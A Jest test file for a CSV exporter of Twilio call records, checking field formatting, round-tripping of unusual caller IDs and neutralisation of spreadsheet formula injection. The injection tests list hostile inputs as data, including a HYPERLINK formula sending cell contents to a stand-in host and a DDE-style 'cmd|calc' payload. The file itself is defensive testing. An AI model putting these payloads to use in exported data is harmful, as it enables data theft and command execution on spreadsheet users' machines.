import { expect, test } from '@jest/globals';
import type { Call } from '../../src/calls/call.ts';
import { CSV_HEADER, toCsv } from '../../src/calls/csv.ts';

const call = (more: Partial<Call> = {}): Call => ({
  sid: `CA${'1'.repeat(32)}`,
  parentSid: null,
  direction: 'inbound',
  from: '+15551230000',
  to: '+15551239999',
  status: 'completed',
  startedAt: new Date('2026-03-10T09:05:07Z'),
  endedAt: new Date('2026-03-10T09:06:08Z'),
  durationSeconds: 61,
  price: '-0.01700',
  currency: 'USD',
  ...more,
});

/** The cell of `from` as a reader of RFC 4180 takes it out of the line. */
function fromCell(from: string): string {
  const line = toCsv([call({ from })]);
  const [, quoted, plain] =
    /^CA1{32},,inbound,(?:"((?:[^"]|"")*)"|([^",\r\n]*)),\+15551239999,/.exec(line) ?? [];
  return quoted === undefined ? String(plain) : quoted.replaceAll('""', '"');
}

test('a call is a line: times in ISO 8601, numbers and prices as they are', () => {
  expect(CSV_HEADER).toBe(
    'sid,parent_sid,direction,from,to,status,started_at,ended_at,duration_seconds,price,currency\r\n',
  );
  expect(toCsv([call(), call({ parentSid: `CA${'2'.repeat(32)}` })])).toBe(
    [
      `CA${'1'.repeat(32)},,inbound,+15551230000,+15551239999,completed,2026-03-10T09:05:07.000Z,2026-03-10T09:06:08.000Z,61,-0.01700,USD\r\n`,
      `CA${'1'.repeat(32)},CA${'2'.repeat(32)},inbound,+15551230000,+15551239999,completed,2026-03-10T09:05:07.000Z,2026-03-10T09:06:08.000Z,61,-0.01700,USD\r\n`,
    ].join(''),
  );
});

test('what Twilio does not say is empty; a duration of 0 is not', () => {
  const nothing = { direction: null, from: null, to: null, price: null, currency: null };
  const queued = { status: 'queued', startedAt: null, endedAt: null, durationSeconds: null };
  expect(toCsv([call({ ...nothing, ...queued })])).toBe(`CA${'1'.repeat(32)},,,,,queued,,,,,\r\n`);
  expect(toCsv([call({ durationSeconds: 0 })])).toContain('Z,0,-0.01700');
  expect(toCsv([])).toBe('');
});

test.each([
  'client:alice',
  'anonymous',
  '+442071838750',
  'sip:desk@pbx.example.com;transport=tls',
  'a "quoted" name, and a comma',
  'two\r\nlines',
  'tab\tin it',
  'Zoë 電話',
])('%j comes out as it went in', (from) => {
  expect(fromCell(from)).toBe(from);
});

test.each([
  ['=HYPERLINK("https://evil.example/?"&A1)', `'=HYPERLINK("https://evil.example/?"&A1)`],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['+1555+cmd|calc!A0', "'+1555+cmd|calc!A0"],
  ['-2+3', "'-2+3"],
  ['\t=1', "'\t'=1"],
  ['\r=1', "'\r'=1"],
  ['＝1+1', "'＝1+1"],
  ['x;=1', "x;'=1"],
  ['x\t@y', "x\t'@y"],
])('%j is no formula any more', (from, text) => {
  expect(fromCell(from)).toBe(text);
});

test('numbers are no formulas, whatever their sign', () => {
  for (const price of ['-0.0085', '+1', '12', '-3.00000']) {
    expect(toCsv([call({ price })])).toContain(`,61,${price},USD\r\n`);
  }
});
